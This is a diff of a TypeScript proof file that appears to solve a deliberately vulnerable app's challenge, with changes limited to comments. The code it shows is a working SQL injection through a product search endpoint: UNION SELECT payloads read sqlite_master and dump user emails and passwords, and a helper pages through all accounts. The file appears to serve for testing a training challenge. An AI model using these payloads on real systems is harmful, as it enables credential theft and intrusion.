@@ -3,10 +3,10 @@ import { challenge } from './challenge.ts'
 
 const search = (attacker: Attacker, term: string) => attacker.get(`/rest/products/search?q=${encodeURIComponent(term)}`)
 const searching = (term: string) => (attacker: Attacker) => search(attacker, term)
-/** Appends rows of all accounts. @param columns nine of them @param rest of the statement */
+/** Appends rows of all accounts. @param columns nine columns @param rest rest of the statement */
 const union = (columns: string, rest = '--') => searching(`qwert')) UNION SELECT ${columns} FROM Users ${rest}`)
 
-/** Reads so many accounts per request, until there are no more. */
+/** Reads `size` accounts per request until none are left. */
 const inPages = (size: number) => async (attacker: Attacker) => {
   for (let offset = 0; ; offset += size) {
     const page = `LIMIT ${size} OFFSET ${offset}--`
@@ -17,7 +17,7 @@ const inPages = (size: number) => async (attacker: Attacker) => {
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // The definitions of tables say where accounts are, and how their columns are called.
+    // The table definitions contain the names of the table and its columns.
     await search(attacker, "')) union select sql,'2','3','4','5','6','7','8','9' from sqlite_master--")
     await search(attacker, "')) union select id,'2','3',email,password,'6','7','8','9' from users--")
   },
